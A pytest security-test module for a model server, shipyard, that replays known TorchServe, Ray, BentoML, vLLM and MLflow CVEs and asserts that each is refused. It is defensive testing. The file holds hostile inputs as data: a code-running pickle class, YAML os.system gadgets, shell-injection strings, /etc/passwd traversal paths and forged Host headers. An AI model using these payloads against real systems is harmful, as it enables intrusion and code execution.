"""Known attacks on model servers, each reproduced against shipyard (../shared/THREATS.md).

One test, or one parametrised group, per row of the table, named after its CVE. Every test
runs with no network: a "remote host" is a TCP listener on 127.0.0.1 that counts the
connections it gets (a canary that must stay silent), and "code execution" is a pickle or a
shell payload that would create a marker file (a trap that must never go off).

One real server is started for the module: `shipyard serve` exactly as shipped (no --host, no
auth setting: loopback, authentication `auto`, so off for predictions and always on for
management), serving the session's `tumours` bundle as two deployments. Where shipyard has no
such feature (shared memory, logging APIs, registration from a URL, artifact downloads, job
submission), the test sends the attack to the route the other server had and asserts that it
does not exist here.
"""

from __future__ import annotations

import ast
import contextlib
import dataclasses
import json
import os
import pickle
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import psutil
import pytest

import shipyard
from shipyard.bundle.files import entry_for, resolve_inside
from shipyard.bundle.manifest import MANIFEST_NAME, FileEntry, Manifest, Owner, RuntimeSpec
from shipyard.errors import (
    BadReferenceError,
    BundleError,
    ConfigError,
    ManifestError,
    ShipyardError,
    UnsafeArtifactError,
)
from shipyard.registry.records import FileRecord
from shipyard.registry.refs import check_name, parse_ref
from shipyard.registry.registry import Registry
from shipyard.registry.store import LocalStore, check_digest, open_store
from shipyard.registry.transfer import cached, download
from shipyard.security.keys import create_key
from shipyard.settings import Settings

SRC = Path(shipyard.__file__).parent
EVIL_VERSION = "evil:1"


# --- helpers -----------------------------------------------------------------------------------


class Evil:
    """A pickle that, when unpickled, creates the file at `path` (a stand-in for any code)."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.path, "w"))


def evil_pickle(marker: Path, protocol: int = 2) -> bytes:
    return pickle.dumps(Evil(marker), protocol=protocol)


class Canary:
    """A TCP listener on loopback that records every connection: a stand-in remote host."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = int(self.sock.getsockname()[1])
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self.sock.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    listener = Canary()
    # A positive control: the canary does hear a connection, so its silence later means
    # something.
    socket.create_connection(("127.0.0.1", listener.port), timeout=2).close()
    deadline = time.monotonic() + 5
    while listener.connections == 0 and time.monotonic() < deadline:
        time.sleep(0.01)
    assert listener.connections == 1
    listener.connections = 0
    yield listener
    listener.close()


def raw_request(port: int, method: str, target: str, host: str | None = None,
                headers: dict[str, str] | None = None, body: bytes = b"") -> tuple[int, bytes]:
    """Send `target` byte for byte (httpx would normalise `..` away) and read the answer."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host or f'127.0.0.1:{port}'}",
             "Connection: close", f"Content-Length: {len(body)}"]
    lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
    with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
        conn.sendall(("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body)
        data = b""
        while chunk := conn.recv(65536):
            data += chunk
    head, _, payload = data.partition(b"\r\n\r\n")
    return int(head.split(b" ", 2)[1]), payload


def make_bundle_dir(root: Path, name: str, files: dict[str, bytes], kind: str = "sklearn") -> Path:
    for relative, data in files.items():
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_bytes(data)
    manifest = Manifest(name=name, version="1", owner=Owner(name="Eve", contact="eve@x.io"),
                        runtime=RuntimeSpec(kind=kind),
                        artifacts=[entry_for(root, relative) for relative in sorted(files)])
    (root / MANIFEST_NAME).write_text(manifest.to_yaml())
    return root


def eventually(check: Any, timeout_s: float = 15.0) -> bool:
    """Poll `check` until it is true (the server reads the registry every 0.2 s here)."""
    deadline = time.monotonic() + timeout_s
    while not check():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


def settings_for(home: Path, **overrides: Any) -> Settings:
    return Settings.load({"home": home, **overrides}, environ={})


def test_every_row_of_the_threat_table_has_its_test():
    """Each CVE and advisory named in ../shared/THREATS.md is named here, by a test or the
    comment above its tests (the table lives beside the repository, not in it)."""
    table = Path(__file__).resolve().parents[3] / "shared" / "THREATS.md"
    if not table.is_file():
        pytest.skip(f"{table} is not beside this checkout")
    ids = set(re.findall(r"CVE-\d{4}-\d{4,5}|GHSA-[a-z0-9]{4}-[a-z0-9]{4}-[a-z0-9]{4}",
                         table.read_text(encoding="utf-8")))
    here = Path(__file__).read_text(encoding="utf-8")
    assert len(ids) > 25
    assert sorted(i for i in ids if i not in here) == []


def test_security_md_names_only_tests_that_exist():
    """SECURITY.md backs each promise with `file::test` names: each must be a real test."""
    root = Path(__file__).resolve().parents[2]
    text = (root / "SECURITY.md").read_text(encoding="utf-8")
    named = set(re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", text))
    assert len(named) > 50
    missing = [f"{f}::{t}" for f, t in sorted(named) if not (root / f).is_file() or not
               re.search(rf"^def {t}\(", (root / f).read_text(encoding="utf-8"), re.M)]
    assert missing == []


# --- the server --------------------------------------------------------------------------------


@dataclass
class Served:
    home: Path
    port: int
    proc: subprocess.Popen[bytes]
    log: Path
    admin: str  # an admin API key, for the routes that need one
    traps: Path  # where markers would appear
    trap_files: list[Path] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def trap(self, name: str) -> Path:
        path = self.traps / name
        self.trap_files.append(path)
        return path

    def sprung(self) -> list[Path]:
        return [p for p in self.trap_files if p.exists()]

    def as_admin(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.admin}"}


ROW = {"mean_radius": 14.0, "mean_texture": 19.0, "mean_perimeter": 90.0, "mean_area": 600.0,
       "mean_smoothness": 0.1, "mean_compactness": 0.1, "size_band": "medium"}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, packaged: Path) -> Iterator[Served]:
    home = tmp_path_factory.mktemp("threats-home")
    traps = tmp_path_factory.mktemp("threats-traps")
    settings = settings_for(home)
    shipyard.push(packaged, settings=settings)
    evil = make_bundle_dir(tmp_path_factory.mktemp("evil") / "evil", "evil",
                           {"model/model.pkl": evil_pickle(traps / "pickle-at-load")})
    # --allow-fragile lets a bundle with error findings in (audited); loading must still refuse.
    shipyard.push(evil, settings=settings, allow_fragile=True)
    with Registry.open(settings) as registry:
        for name in ("tumours", "trap"):
            registry.deploy(name, {"variants": [{"name": "champion", "model": "tumours:1.0.0"}]},
                            reason="threat tests")
        admin, _ = create_key(registry.keys(), "admin", None, None, "threat-tests",
                              name="threats-admin")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    log = home / "server.log"
    # As shipped: no --host and no SHIPYARD_AUTH, so the defaults decide.
    env = {k: v for k, v in os.environ.items() if not k.startswith("SHIPYARD_")}
    proc = subprocess.Popen(
        [sys.executable, "-m", "shipyard.cli", "--home", str(home), "serve", "--port", str(port),
         "tumours", "trap"],
        stdout=log.open("wb"), stderr=subprocess.STDOUT, env={**env, "SHIPYARD_POLL_S": "0.2"},
    )
    running = Served(home, port, proc, log, admin, traps)
    running.trap_files.append(traps / "pickle-at-load")
    try:
        deadline = time.monotonic() + 90
        while True:
            assert proc.poll() is None, log.read_text()[-3000:]
            assert time.monotonic() < deadline, log.read_text()[-3000:]
            try:
                if httpx.get(f"{running.url}/readyz", timeout=1).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            time.sleep(0.1)
        yield running
        # Whatever each test sent, no trap went off anywhere in the module.
        assert running.sprung() == []
    finally:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(10)


def predict(served: Served, body: Any, name: str = "tumours", **kwargs: Any) -> httpx.Response:
    return httpx.post(f"{served.url}/v1/deployments/{name}/predict", json=body, timeout=30,
                      **kwargs)


# =================================================================================================
# CVE-2023-43654 "ShellTorch" (TorchServe): management API reachable and unauthenticated;
# registration fetched a model archive from any URL; YAML in the archive built objects
# (GHSA-8fxr-qfr9-p34w, SnakeYAML).
# =================================================================================================


MANAGEMENT_WRITES = ["rollback", "rollout", *(f"rollout/{a}" for a in
                                             ("pause", "resume", "approve", "promote", "abort"))]


def test_cve_2023_43654_management_needs_a_credential_on_the_inference_listener(served: Served):
    """The listener that answers predictions anonymously (loopback, auth auto) refuses every
    management write from an anonymous caller: 401, and no revision appears."""
    assert predict(served, {"inputs": [ROW]}).status_code == 200
    for route in MANAGEMENT_WRITES:
        answer = httpx.post(f"{served.url}/v1/deployments/tumours/{route}",
                            json={"to": 1, "reason": "anonymous"})
        assert answer.status_code == 401, (route, answer.text)
    with Registry.open(settings_for(served.home)) as registry:
        assert len(registry.revisions("tumours")) == 1


def test_cve_2023_43654_no_model_is_registered_from_a_url(served: Served, canary: Canary,
                                                          tmp_path: Path):
    """TorchServe's `POST /models?url=` and its kin do not exist here; the API, the CLI and the
    registry take folders and NAME:VERSION references, never URLs, so nothing is fetched."""
    archive = f"{canary.url}/model.mar"
    for method, path in [("POST", f"/models?url={archive}"), ("POST", "/v1/models"),
                         ("POST", "/v2/repository/models/tumours/load"),
                         ("POST", "/v2/repository/index"), ("PUT", "/v1/deployments/tumours"),
                         ("POST", "/v1/deployments/tumours")]:
        answer = httpx.request(method, f"{served.url}{path}", json={"url": archive})
        assert answer.status_code in (404, 405), (path, answer.status_code)
    settings = settings_for(tmp_path / "home")
    for call in (lambda: shipyard.push(archive, settings=settings),
                 lambda: shipyard.load(archive, settings=settings),
                 lambda: shipyard.pull(archive, tmp_path / "dest", settings=settings)):
        with pytest.raises(ShipyardError):
            call()
    refused = subprocess.run([sys.executable, "-m", "shipyard.cli", "--home", str(served.home),
                              "deploy", "tumours", "--model", archive],
                             capture_output=True, text=True, timeout=60)
    assert refused.returncode == 2, refused.stderr
    time.sleep(0.3)
    assert canary.connections == 0


def test_cve_2023_43654_yaml_in_a_manifest_builds_no_objects(tmp_path: Path):
    """The MAR config's SnakeYAML gadget: manifests are read with a safe loader, so a Python
    tag is a syntax error, never a call."""
    marker = tmp_path / "yaml-ran"
    for text in (f'name: !!python/object/apply:os.system ["touch {marker}"]\nversion: "1"\n',
                 f"!!python/object/new:subprocess.Popen [[touch, {marker}]]\n",
                 f"name: x\nversion: !!python/object/apply:builtins.open [{marker}, w]\n"):
        with pytest.raises(ManifestError):
            Manifest.from_text(text)
    assert not marker.exists()


# =================================================================================================
# CVE-2024-35198 (TorchServe): the allowed_urls check ran, but the copy happened anyway.
# =================================================================================================


@pytest.mark.parametrize("entry", ["../outside.bin", "model/../../outside.bin", "/etc/passwd",
                                   "model/./../../outside.bin", "\\outside.bin", "C:/outside.bin",
                                   "model//weights.bin", "model\\..\\..\\outside.bin"])
def test_cve_2024_35198_escaping_paths_are_refused_as_text(entry: str):
    """A manifest path is checked as text first: `..`, absolute, empty parts, backslashes."""
    with pytest.raises(ValueError):
        FileEntry(path=entry, sha256="0" * 64, size=1)


def test_cve_2024_35198_a_path_is_checked_normalised_before_anything_is_stored(tmp_path: Path):
    """A symlink that leads out of the bundle passes any text check; the resolved path does
    not, and the refusal comes before any byte reaches the artifact store."""
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("not part of any bundle")
    root = make_bundle_dir(tmp_path / "bundle", "linked", {"model/model.bin": b"weights"},
                           kind="python")
    (root / "model" / "model.bin").unlink()
    (root / "model" / "model.bin").symlink_to(secret)
    for relative in ("model/model.bin", "model/../model/model.bin"):
        with pytest.raises(BundleError, match="outside the bundle"):
            resolve_inside(root, relative)
    settings = settings_for(tmp_path / "home")
    with pytest.raises(ShipyardError):
        shipyard.push(root, settings=settings, allow_fragile=True)
    store = tmp_path / "home" / "store"
    assert not store.exists() or not [p for p in store.rglob("*") if p.is_file()]
    with Registry.open(settings) as registry:
        assert registry.models() == []


# =================================================================================================
# CVE-2024-35199 (TorchServe): extra listeners (gRPC) bound to all interfaces.
# =================================================================================================


def test_cve_2024_35199_every_listener_binds_loopback_by_default(served: Served):
    """`shipyard serve` defaults to 127.0.0.1, and the running server (started with no --host)
    has exactly one listening socket, on loopback: no gRPC, metrics or management port."""
    from shipyard.cli import cli

    host = next(p for p in cli.commands["serve"].params if p.name == "host")
    assert host.default == "127.0.0.1"
    helped = subprocess.run([sys.executable, "-m", "shipyard.cli", "serve", "--help"],
                            capture_output=True, text=True, timeout=60)
    assert "[default: 127.0.0.1]" in helped.stdout
    process = psutil.Process(served.proc.pid)
    listening = [c for p in (process, *process.children(recursive=True))
                 for c in p.net_connections(kind="inet") if c.status == psutil.CONN_LISTEN]
    assert [(c.laddr.ip, c.laddr.port) for c in listening] == [("127.0.0.1", served.port)]


def test_cve_2024_35199_authentication_is_on_beyond_loopback(tmp_path: Path):
    """Listening beyond loopback turns authentication on unless it is explicitly off."""
    from shipyard.serving.server import build_door

    for host, auth, required in [("127.0.0.1", "auto", False), ("0.0.0.0", "auto", True),
                                 ("::", "auto", True), ("10.1.2.3", "auto", True),
                                 ("127.0.0.1", "on", True), ("0.0.0.0", "off", False)]:
        door = build_door(settings_for(tmp_path, auth=auth), host)
        assert door.auth_required is required, (host, auth)
    loopback = build_door(settings_for(tmp_path), "127.0.0.1")
    assert "evil.example" not in loopback.allowed_hosts and "*" not in loopback.allowed_hosts


# =================================================================================================
# CVE-2023-48022 "ShadowRay" (Ray): the jobs API ran a caller's shell command, unauthenticated.
# CVE-2023-6019 (Ray): command injection through a profiling parameter.
# =================================================================================================


def shell_payloads(marker: Path) -> list[str]:
    return [f"$(touch {marker})", f"`touch {marker}`", f"; touch {marker}", f"| touch {marker}",
            f"&& touch {marker}", f"\n touch {marker}", f"{{{{ touch {marker} }}}}",
            f"__import__('os').system('touch {marker}')"]


def test_cve_2023_48022_no_route_runs_a_command_a_caller_sends(served: Served):
    """Ray's job submission and shell-looking values in every place a caller controls (path,
    query, headers, every body field of every POST route, with and without a credential):
    nothing runs."""
    marker = served.trap("shell")
    payloads = shell_payloads(marker)
    with httpx.Client(base_url=served.url, timeout=30) as client:
        for route in ("/api/jobs/", "/api/jobs", "/api/v1/jobs", "/v1/jobs"):
            answer = client.post(route, json={"entrypoint": f"touch {marker}",
                                              "runtime_env": {}})
            assert answer.status_code == 404, route
        for payload in payloads:
            headers = {"x-request-id": payload[:100], "x-shipyard-key": payload,
                       "user-agent": payload}
            safe_headers = {k: v.replace("\n", " ").strip() for k, v in headers.items()}
            client.post("/v1/deployments/tumours/predict", params={"cmd": payload},
                        headers=safe_headers, json={"inputs": [{**ROW, "size_band": payload}]})
            client.post("/v2/models/tumours/infer", json={
                "id": payload[:200], "parameters": {"cmd": payload},
                "inputs": [{"name": "size_band", "datatype": "BYTES", "shape": [1],
                            "data": [payload]}]})
            client.post("/v1/deployments/tumours/feedback",
                        json={"request_id": payload, "comment": payload, "label": payload})
            client.get(f"/v1/deployments/{payload.strip()}", params={"window": payload})
            for route in MANAGEMENT_WRITES:
                body = {"reason": payload, "to": payload, "plan": {"model": payload,
                                                                   "strategy": payload}}
                client.post(f"/v1/deployments/tumours/{route}", json=body)
                # With a credential the body is read; revision 9999 keeps a rollback a no-op.
                client.post(f"/v1/deployments/trap/{route}", headers=served.as_admin(),
                            json={"reason": payload, "to": 9999, "model": payload})
    time.sleep(0.3)
    assert not marker.exists()
    assert httpx.get(f"{served.url}/readyz").status_code == 200


def test_cve_2023_6019_no_profiling_or_debug_route(served: Served):
    """Ray's `cpu_profile?pid=` took a shell fragment; shipyard has no such route at all."""
    marker = served.trap("profile")
    for path in (f"/worker/cpu_profile?pid=1;touch {marker}&ip=127.0.0.1",
                 f"/api/v0/tasks?format=$(touch {marker})", "/debug/pprof/profile",
                 "/api/cluster_status", "/logical/actors"):
        assert httpx.get(f"{served.url}{path}").status_code == 404, path
    assert not marker.exists()


# =================================================================================================
# CVE-2023-6020 (Ray): a static-file route read any file through `..`.
# =================================================================================================


@pytest.mark.parametrize("target", [
    "/ui/../../../../../../etc/passwd", "/ui/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/ui/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/static/../../../../etc/passwd",
    "/ui/....//....//etc/passwd", "//etc/passwd", "/ui/%252e%252e/%252e%252e/etc/passwd",
    "/docs/../../../../proc/self/environ", "/ui/..\\..\\..\\etc\\passwd",
])
def test_cve_2023_6020_the_static_route_refuses_traversal(served: Served, target: str):
    """The dashboard is one page built into the package; no path reaches the file system."""
    status, body = raw_request(served.port, "GET", target)
    assert 400 <= status < 500, (target, status)
    assert b"root:" not in body and b"PATH=" not in body


# =================================================================================================
# CVE-2025-62593 (Ray): DNS rebinding past a User-Agent check; fixed with Sec-Fetch-* checks.
# =================================================================================================


@pytest.mark.parametrize("host", ["evil.example", "evil.example:{port}", "127.0.0.1.nip.io",
                                  "localhost.evil.example:{port}", "attacker:{port}",
                                  "127.0.0.2:{port}", "0.0.0.0:{port}"])
def test_cve_2025_62593_a_foreign_host_header_is_refused(served: Served, host: str):
    """A rebinding page reaches 127.0.0.1 but sends its own name as Host: refused, 400."""
    body = json.dumps({"inputs": [ROW]}).encode()
    status, _ = raw_request(served.port, "POST", "/v1/deployments/tumours/predict",
                            host=host.format(port=served.port),
                            headers={"Content-Type": "application/json"}, body=body)
    assert status == 400
    status, _ = raw_request(served.port, "GET", "/v1/deployments", host=host.format(
        port=served.port))
    assert status == 400


def test_cve_2025_62593_loopback_names_are_this_server(served: Served):
    for host in (f"127.0.0.1:{served.port}", f"localhost:{served.port}", "localhost",
                 f"[::1]:{served.port}", f"LOCALHOST:{served.port}"):
        status, _ = raw_request(served.port, "GET", "/v1/deployments", host=host)
        assert status == 200, host


def test_cve_2025_62593_a_cross_site_post_is_refused(served: Served):
    """A page on another site cannot make a browser change anything here, with or without
    a credential the browser might hold."""
    cross = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}
    assert predict(served, {"inputs": [ROW]}, headers=cross).status_code == 403
    refused = httpx.post(f"{served.url}/v1/deployments/trap/rollback", json={"to": 1},
                         headers={**cross, **served.as_admin()})
    assert refused.status_code == 403
    for site in ("same-origin", "none"):
        answer = predict(served, {"inputs": [ROW]}, headers={"Sec-Fetch-Site": site})
        assert answer.status_code == 200, site


def test_cve_2025_62593_the_user_agent_authenticates_nobody(served: Served):
    for agent in ("Mozilla/5.0 (X11; Linux x86_64)", "ray-dashboard", "shipyard-cli/0.1.0",
                  "python-requests/2.32", "curl/8.0", ""):
        answer = httpx.post(f"{served.url}/v1/deployments/trap/rollout/pause",
                            headers={"User-Agent": agent})
        assert answer.status_code == 401, agent


# =================================================================================================
# CVE-2025-27520, GHSA-33xw-247w-6hmc (BentoML): `application/vnd.bentoml+pickle` bodies were
# unpickled, unauthenticated.
# =================================================================================================

REFUSED_TYPES = ["application/vnd.bentoml+pickle", "application/x-pickle",
                 "application/python-pickle", "application/octet-stream",
                 "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                 "text/plain", "application/msgpack", "application/x-npy",
                 "application/json+pickle", "text/json", "application/x-python-serialize"]
PICKLE_ROUTES = ["/v1/deployments/tumours/predict", "/v2/models/tumours/infer",
                 "/v1/deployments/tumours/feedback", "/v1/deployments/trap/rollout",
                 "/v1/deployments/trap/rollback", "/v1/deployments/trap/rollout/pause"]


@pytest.mark.parametrize("content_type", REFUSED_TYPES)
def test_cve_2025_27520_a_body_that_is_not_json_is_refused_unread(served: Served,
                                                                   content_type: str):
    """Every content type but JSON (and V2's binary extension, below) answers 415, on every
    route that takes a body, for a caller holding an admin key too; the pickle is never
    loaded."""
    marker = served.trap(f"pickle-{content_type.split(';')[0].replace('/', '_')}")
    for protocol in (0, 2, 5):
        body = evil_pickle(marker, protocol)
        for route in PICKLE_ROUTES:
            answer = httpx.post(f"{served.url}{route}", content=body,
                                headers={"Content-Type": content_type, **served.as_admin()})
            assert answer.status_code == 415, (route, answer.status_code, answer.text[:200])
    assert not marker.exists()


def test_cve_2025_27520_a_pickle_in_the_binary_tensor_extension_is_only_bytes(served: Served):
    """V2's octet-stream extension carries raw tensor bytes after a JSON header: a pickle
    there is decoded as data (or refused), never unpickled."""
    marker = served.trap("pickle-binary")
    payload = evil_pickle(marker)
    header = json.dumps({"inputs": [
        {"name": "size_band", "datatype": "BYTES", "shape": [1],
         "parameters": {"binary_data_size": len(payload) + 4}}]}).encode()
    framed = header + len(payload).to_bytes(4, "little") + payload
    answer = httpx.post(f"{served.url}/v2/models/tumours/infer", content=framed, headers={
        "Content-Type": "application/octet-stream",
        "Inference-Header-Content-Length": str(len(header))})
    assert 400 <= answer.status_code < 500, answer.text
    as_header = httpx.post(f"{served.url}/v2/models/tumours/infer", content=payload, headers={
        "Content-Type": "application/octet-stream",
        "Inference-Header-Content-Length": str(len(payload))})
    assert as_header.status_code == 400
    assert not marker.exists()


# =================================================================================================
# CVE-2025-32375, CVE-2024-2912 (BentoML): the runner server unpickled arguments chosen by
# headers. CVE-2025-32444 (vLLM, also CVE-2025-30165 and CVE-2024-11041): `recv_pyobj`
# (pickle) on a ZeroMQ socket bound to all interfaces.
# =================================================================================================


def test_cve_2025_32375_cve_2024_2912_runner_headers_select_nothing(served: Served):
    """BentoML's runner protocol picked pickle by header; here such headers change nothing."""
    marker = served.trap("pickle-runner")
    runner = {"Payload-Container": "DefaultContainer", "Payload-Meta": '{"format": "pickle"}',
              "Batch-Size": "-1", "Args-Number": "1", "Content-Type": "application/json"}
    for route in ("/", "/predict", "/run", "/v1/deployments/tumours/predict"):
        answer = httpx.post(f"{served.url}{route}", content=evil_pickle(marker), headers=runner)
        assert answer.status_code in (400, 404), (route, answer.status_code)
    assert not marker.exists()


PICKLE_MODULES = {"pickle", "cloudpickle", "dill", "marshal", "shelve", "joblib", "jsonpickle"}
IPC_MODULES = {"zmq", "multiprocessing.connection", "xmlrpc", "rpyc", "Pyro4", "Pyro5"}
SCANNER = {"bundle/scan.py", "bundle/allowlist.py", "bundle/pickle_machine.py"}


def imported_modules(tree: ast.AST) -> set[str]:
    found: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
            found.add(node.module)
    return found


def unsafe_loads(tree: ast.AST) -> list[str]:
    """Calls that deserialise with code execution: pickle-family `load(s)`, and `torch.load`
    without `weights_only=True`."""
    found = []
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                and isinstance(node.func.value, ast.Name)):
            continue
        owner, attr = node.func.value.id, node.func.attr
        if owner in PICKLE_MODULES and attr in ("load", "loads", "Unpickler"):
            found.append(f"{owner}.{attr} at line {node.lineno}")
        if owner == "torch" and attr == "load" and not any(
                k.arg == "weights_only" and isinstance(k.value, ast.Constant)
                and k.value.value is True for k in node.keywords):
            found.append(f"torch.load without weights_only=True at line {node.lineno}")
    return found


def test_cve_2025_32444_no_pickle_and_no_socket_ipc_outside_the_scanner(served: Served):
    """There is no internal RPC to attack: one process, one HTTP listener (workers share only
    the registry). No module but the pickle scanner imports a pickle-family library (joblib
    only to save), none imports an IPC library, and nothing outside the scanner calls a
    pickle-family load or `torch.load` without `weights_only=True`."""
    process = psutil.Process(served.proc.pid)
    sockets = [c for c in process.net_connections(kind="all") if c.status == psutil.CONN_LISTEN]
    assert len(sockets) == 1
    # The checker sees what it is meant to see.
    assert len(unsafe_loads(ast.parse("torch.load(p)\npickle.loads(b)\njoblib.load(p)"))) == 3
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC).as_posix()
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = imported_modules(tree)
        roots = {n.split(".")[0] for n in names}
        if relative not in SCANNER and (roots & PICKLE_MODULES) - {"joblib"}:
            offenders.append(f"{relative}: {sorted(roots & PICKLE_MODULES)}")
        if relative not in SCANNER:
            offenders += [f"{relative}: {call}" for call in unsafe_loads(tree)]
        if any(n == m or n.startswith(f"{m}.") for n in names for m in IPC_MODULES):
            offenders.append(f"{relative}: IPC")
    assert offenders == []


# =================================================================================================
# CVE-2023-1177 (MLflow): LFI/RFI through an attacker-set artifact root joined with `path`.
# =================================================================================================


def test_cve_2023_1177_no_route_serves_files(served: Served):
    """MLflow's get-artifact and its kin do not exist: no route takes a file path."""
    for path in ("/get-artifact?path=../../../../etc/passwd&run_uuid=x",
                 "/model-versions/get-artifact?path=../../etc/passwd&name=tumours&version=1",
                 "/api/2.0/mlflow/artifacts/get?path=/etc/passwd",
                 "/v1/deployments/tumours/artifacts/model/model.pkl",
                 "/v2/models/tumours/versions/1.0.0/files/shipyard.yaml"):
        answer = httpx.get(f"{served.url}{path}")
        assert answer.status_code == 404, path
        assert "root:" not in answer.text


def test_cve_2023_1177_a_registered_path_cannot_leave_the_bundle(served: Served,
                                                                 tmp_path: Path):
    """A version's files come from the store by digest and are written under the download
    folder; a file path in the registry that leads out of it is refused before any write.
    A version has no `source` location that could point at server-local paths."""
    with Registry.open(settings_for(served.home)) as registry:
        record = registry.resolve("tumours:1.0.0")
        store = registry.store
    assert "source" not in {f.name for f in dataclasses.fields(record)}
    first = record.files[0]
    for escape in ("../../escaped.bin", "/tmp/escaped.bin", "model/../../escaped.bin"):
        tampered = dataclasses.replace(
            record, files=[FileRecord(escape, first.sha256, first.size), *record.files[1:]])
        with pytest.raises(BundleError):
            download(store, tampered, tmp_path / "out" / "bundle")
    assert not (tmp_path / "escaped.bin").exists() and not Path("/tmp/escaped.bin").exists()
    assert not (tmp_path / "out" / "bundle").exists()


# =================================================================================================
# CVE-2023-6977 (MLflow): `//proc/self/root` passed an is-local check on the hostname.
# CVE-2024-1483, CVE-2024-3848 (MLflow, bypasses of CVE-2023-6909): a `#` fragment in
# `artifact_location` or `source` skipped the validation.
# =================================================================================================

URI_REFERENCES = ["file:///etc/passwd", "file:/etc/passwd", "FILE:///etc/passwd",
                  "//proc/self/root/etc/passwd", "/proc/self/root", "tumours#../../etc",
                  "tumours:1.0.0#../../../etc", "tumours?x=../../etc", "tumours:1.0.0?v=1",
                  "tumours%2f..%2f..%2fetc", "Tumours:1.0.0", "http://127.0.0.1/m",
                  "s3://bucket/model", "tumours:../1.0.0", "tumours@../prod",
                  "tumours:1.0.0/../../x", "tumours:1.0.0\n", "tumours:%2e%2e"]


@pytest.mark.parametrize("reference", URI_REFERENCES)
def test_cve_2023_6977_cve_2024_1483_uri_shaped_references_are_refused(served: Served,
                                                                       reference: str):
    """Model references are NAME[:VERSION|@ALIAS] by pattern, parsed before any lookup: no
    scheme, `//`, fragment, query, encoding or case trick is a reference."""
    with pytest.raises(BadReferenceError):
        parse_ref(reference)
    with Registry.open(settings_for(served.home)) as registry:
        with pytest.raises(BadReferenceError):
            registry.deploy("uri-test", {"variants": [{"name": "c", "model": reference}]})
        with pytest.raises(ShipyardError):
            registry.resolve(reference)


def test_cve_2023_6977_uri_shaped_references_are_refused_by_the_cli(served: Served):
    for reference in ("//proc/self/root/etc/passwd", "tumours:1.0.0#x"):
        refused = subprocess.run(
            [sys.executable, "-m", "shipyard.cli", "--home", str(served.home), "deploy",
             "tumours", "--model", reference], capture_output=True, text=True, timeout=60)
        assert refused.returncode == 2, refused.stderr
        assert "Traceback" not in refused.stderr


def test_cve_2023_6977_store_urls_keep_blobs_under_their_root(tmp_path: Path):
    """The artifact store URL is operator configuration, never taken from a request. Whatever
    it is, a blob key is `sha256/xx/<digest>` under its root, so no digest or fragment can
    lead elsewhere; an unknown or mixed-case scheme is refused without echoing credentials."""
    for url in (f"file://{tmp_path}/a#frag", f"file://{tmp_path}/b?x=1", str(tmp_path / "c")):
        store = open_store(url)
        source = tmp_path / "blob"
        source.write_bytes(b"x")
        digest = "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881"
        store.put(source, digest, 1)
        found = list(tmp_path.rglob(digest))
        assert found and all(str(p).startswith(str(tmp_path)) for p in found)
        for p in found:
            p.unlink()
    for url in ("FILE:///etc", "nosuch://user:hunter2@host/x", "File://x"):
        with pytest.raises(ConfigError) as caught:
            open_store(url)
        assert "hunter2" not in str(caught.value)


@pytest.mark.parametrize("url", ["file:/srv/store", "s3:bucket/store", "memory:store"])
def test_cve_2023_6977_a_store_url_with_a_scheme_but_no_slashes_is_refused(
        url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigError):
        open_store(url)


# =================================================================================================
# CVE-2023-6014 (MLflow): unauthenticated account creation.
# =================================================================================================


def test_cve_2023_6014_no_route_creates_users_or_keys(served: Served):
    """Keys are made only by `shipyard keys create` against the registry (an operator who can
    open the registry is its admin); no HTTP route creates a user or a key, whoever asks."""
    with Registry.open(settings_for(served.home)) as registry:
        before = len(registry.keys().list())
    for path in ("/api/2.0/mlflow/users/create", "/api/2.0/users/create", "/v1/keys",
                 "/v1/users", "/keys", "/v1/keys/create", "/v1/admin/keys"):
        for headers in ({}, served.as_admin()):
            answer = httpx.post(f"{served.url}{path}", headers=headers,
                                json={"username": "eve", "password": "x", "role": "admin"})
            assert answer.status_code in (404, 405), (path, answer.status_code)
